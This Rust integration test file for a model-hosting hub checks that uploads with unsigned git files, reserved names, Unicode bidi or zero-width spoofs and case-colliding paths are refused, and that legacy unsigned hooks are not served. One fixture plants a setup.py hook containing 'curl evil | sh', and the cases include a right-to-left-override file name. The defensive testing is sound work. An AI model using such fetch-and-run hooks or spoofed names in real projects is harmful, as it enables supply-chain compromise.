//! Issue 15 findings 10 and 12: file names that are unsigned, reserved in another
//! spelling, or confusable are refused with 422 naming the path and the rule, and nothing
//! of theirs is recorded; odd but acceptable names are percent-encoded in UI links, and
//! the links resolve.

use axum::http::{Method, StatusCode};

use crate::harness::{Hub, hub};

/// Opens an upload session on `alice/m`.
async fn open(h: &Hub) -> String {
    let r = h
        .post_json(
            "/api/models/alice/m/uploads",
            Some(&h.alice),
            serde_json::json!({}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    r.json()["upload_id"].as_str().unwrap().to_owned()
}

async fn put(h: &Hub, id: &str, url_path: &str) -> (StatusCode, String) {
    let r = h
        .send(
            Method::PUT,
            &format!("/api/models/alice/m/uploads/{id}/files/{url_path}"),
            Some(&h.alice),
            &[],
            b"print('owned')".to_vec(),
        )
        .await;
    (r.status, r.text())
}

async fn commit(h: &Hub, id: &str) -> (StatusCode, String) {
    let r = h
        .post_json(
            &format!("/api/models/alice/m/uploads/{id}/commit"),
            Some(&h.alice),
            serde_json::json!({}),
        )
        .await;
    (r.status, r.text())
}

/// Each name alone, pushed as a revision: refused at upload, 422, the message names the
/// path (escaped as Rust's `{:?}` does, so a bidi override is not echoed) and the rule;
/// no file in the session, no revision, no blob.
#[tokio::test]
async fn confusable_and_unsigned_names_are_refused() {
    let h = hub().await;
    // (path as sent in the URL, the path, words of the rule)
    let cases = [
        (
            ".github/hooks/setup.py",
            ".github/hooks/setup.py",
            "left out of every model_signing signature",
        ),
        (
            ".gitattributes",
            ".gitattributes",
            "left out of every model_signing signature",
        ),
        (
            ".gitignore",
            ".gitignore",
            "left out of every model_signing signature",
        ),
        (".GIT/config", ".GIT/config", "git metadata"),
        ("sub/.git/config", "sub/.git/config", "git metadata"),
        ("MODEL.SIG", "MODEL.SIG", "model.sig is written by the hub"),
        (
            "model.sig/x",
            "model.sig/x",
            "model.sig is written by the hub",
        ),
        (
            "model.sig.",
            "model.sig.",
            "model.sig is written by the hub",
        ),
        (
            ".cache/huggingface/download/w.bin.metadata",
            ".cache/huggingface/download/w.bin.metadata",
            "download tools",
        ),
        ("cafe%CC%81.bin", "cafe\u{301}.bin", "not in Unicode NFC"),
        (
            "evil%E2%80%AEnib.py",
            "evil\u{202E}nib.py",
            "bidirectional-control character U+202E",
        ),
        (
            "a%E2%81%A6b",
            "a\u{2066}b",
            "bidirectional-control character U+2066",
        ),
        (
            "zero%E2%80%8Bwidth",
            "zero\u{200B}width",
            "invisible or bidirectional-control character U+200B",
        ),
        (
            "no%C2%A0break",
            "no\u{A0}break",
            "whitespace other than a plain space: U+00A0",
        ),
    ];
    let blobs = h.blob_count();
    let mut seen = Vec::new();
    for (url, path, rule) in cases {
        let id = open(&h).await;
        let (put_status, put_body) = put(&h, &id, url).await;
        let (commit_status, _) = commit(&h, &id).await;
        let message = serde_json::from_str::<serde_json::Value>(&put_body)
            .ok()
            .and_then(|v| v["error"].as_str().map(str::to_owned))
            .unwrap_or_default();
        seen.push(format!("{url}: PUT {put_status}, commit {commit_status}"));
        let ok = put_status == StatusCode::UNPROCESSABLE_ENTITY
            && message.starts_with(&format!("file path {path:?} refused: "))
            && message.contains(rule)
            && !message.contains(['\u{202E}', '\u{2066}', '\u{200B}'])
            // nothing in the session: nothing to sign
            && commit_status == StatusCode::BAD_REQUEST;
        assert!(ok, "{url}: {put_status} {put_body}; all so far: {seen:#?}");
    }
    eprintln!("{seen:#?}");
    assert!(h.get("/api/models/alice/m", Some(&h.alice)).await.json()["sha"].is_null());
    assert_eq!(h.blob_count(), blobs, "a refused file left a blob");
    // The NFC spelling of the NFD name above is a fine name.
    let ok = h
        .push(&h.alice, "alice/m", &[("caf%C3%A9.bin", b"x")], false)
        .await;
    assert_eq!(ok.status, StatusCode::CREATED, "{}", ok.text());
}

/// Names that are fine alone but not together: the commit is refused with 422 naming
/// both paths, the session is closed, and `main` does not move.
#[tokio::test]
async fn conflicting_names_in_one_revision_are_refused() {
    let h = hub().await;
    let first = h
        .push(&h.alice, "alice/m", &[("keep.bin", b"k")], false)
        .await;
    assert_eq!(first.status, StatusCode::CREATED);
    let head = first.json()["commit"].as_str().unwrap().to_owned();
    let cases: [(&[&str], &str); 4] = [
        (
            &["a", "a/b"],
            r#"file path \"a/b\" refused: it needs a directory where the revision has the file \"a\""#,
        ),
        (
            &["w/Model.bin", "w/model.bin"],
            r#"file path \"w/model.bin\" refused: case-insensitive file systems store it as the same file as \"w/Model.bin\""#,
        ),
        (
            &["README", "readme."],
            "\\\"readme.\\\" refused: case-insensitive",
        ),
        (
            &["x/y", "X/y/z"],
            "\\\"X/y/z\\\" refused: it needs a directory",
        ),
    ];
    let mut seen = Vec::new();
    for (paths, message) in cases {
        let id = open(&h).await;
        for p in paths {
            assert_eq!(put(&h, &id, p).await.0, StatusCode::OK, "{p}");
        }
        let (status, body) = commit(&h, &id).await;
        seen.push(format!("{paths:?}: commit {status}"));
        assert!(
            status == StatusCode::UNPROCESSABLE_ENTITY && body.contains(message),
            "{paths:?}: {status} {body}; all so far: {seen:#?}"
        );
        // the session is closed: a retry must start over
        assert_eq!(commit(&h, &id).await.0, StatusCode::NOT_FOUND);
    }
    eprintln!("{seen:#?}");
    let info = h.get("/api/models/alice/m", Some(&h.alice)).await.json();
    assert_eq!(info["sha"], head.as_str());
}

/// A file whose name holds `<`, `"`, `#`, `?`, `%`, spaces and non-ASCII letters: the
/// model page links it percent-encoded (and HTML-escaped nowhere else needed), and
/// following the link downloads the file.
#[tokio::test]
async fn odd_names_are_linked_percent_encoded_and_resolve() {
    let h = hub().await;
    let name = "dir with space/a<b\"c#d?e%f ü.bin";
    let encoded = "dir%20with%20space/a%3Cb%22c%23d%3Fe%25f%20%C3%BC.bin";
    let r = h
        .push(
            &h.alice,
            "alice/odd",
            &[(encoded, b"odd bytes"), ("plain.txt", b"p")],
            false,
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let commit = r.json()["commit"].as_str().unwrap().to_owned();
    let tree = h
        .get(
            &format!("/api/models/alice/odd/tree/{commit}?recursive=true"),
            None,
        )
        .await
        .json();
    assert!(
        tree.as_array().unwrap().iter().any(|e| e["path"] == name),
        "{tree}"
    );
    let page = h.get("/alice/odd", None).await.text();
    let href = format!("/alice/odd/resolve/{commit}/{encoded}");
    assert!(
        page.contains(&format!("<a href=\"{href}\">")),
        "no encoded link in {page}"
    );
    assert!(page.contains("Every file is covered by <code>model.sig</code>"));
    let got = h.get(&href, None).await;
    assert_eq!(got.status, StatusCode::OK);
    assert_eq!(got.body, b"odd bytes");
}

/// A revision stored before uploads refused unsigned git files (made here straight
/// through the store, as an older hub did): its signature verifies without the rewritten
/// `.github/hooks/setup.py`, so the hub neither lists nor serves that file.
#[tokio::test]
async fn legacy_unsigned_files_are_not_served() {
    let h = hub().await;
    let first = h
        .push(&h.alice, "alice/legacy", &[("config.json", b"{}")], false)
        .await;
    assert_eq!(first.status, StatusCode::CREATED);
    let meta = &h.state.meta;
    let repo = meta.repo("alice", "legacy").await.unwrap().unwrap();
    let head = repo.head.clone().unwrap();
    let old = meta.revision(repo.id, &head).await.unwrap().unwrap();
    let mut files = meta.revision_files(repo.id, &head).await.unwrap();
    let hook = h
        .state
        .blobs
        .put_bytes(b"import os; os.system('curl evil | sh')".to_vec().into())
        .await
        .unwrap();
    files.push(hallmark_store::FileEntry {
        path: ".github/hooks/setup.py".into(),
        sha256: hook.sha256,
        size: hook.size,
    });
    meta.commit_revision(
        &hallmark_store::NewRevision {
            repo_id: repo.id,
            commit: "c".repeat(40),
            parent: Some(head),
            uploader_id: old.uploader_id,
            summary: "legacy".into(),
            files,
            signature: old.signature.clone(),
            identity_changed_from: None,
            upload_id: None,
            scan: None,
            claims: Vec::new(),
        },
        0,
    )
    .await
    .unwrap();
    let hook_url = "/alice/legacy/resolve/main/.github/hooks/setup.py";
    let got = h.get(hook_url, None).await;
    eprintln!("GET {hook_url}: {}", got.status);
    assert_eq!(got.status, StatusCode::NOT_FOUND, "{}", got.text());
    assert_eq!(got.header("x-error-code"), Some("EntryNotFound"));
    assert_eq!(
        h.get("/alice/legacy/resolve/main/config.json", None)
            .await
            .status,
        StatusCode::OK
    );
    let info = h.get("/api/models/alice/legacy", None).await.json();
    assert_eq!(info["sha"], "c".repeat(40));
    let listed: Vec<&str> = info["siblings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["rfilename"].as_str().unwrap())
        .collect();
    assert_eq!(listed, ["config.json", "model.sig"]);
    let tree = h
        .get("/api/models/alice/legacy/tree/main?recursive=true", None)
        .await
        .text();
    assert!(!tree.contains(".github"), "{tree}");
    assert!(
        !h.get("/alice/legacy", None)
            .await
            .text()
            .contains(".github")
    );
}
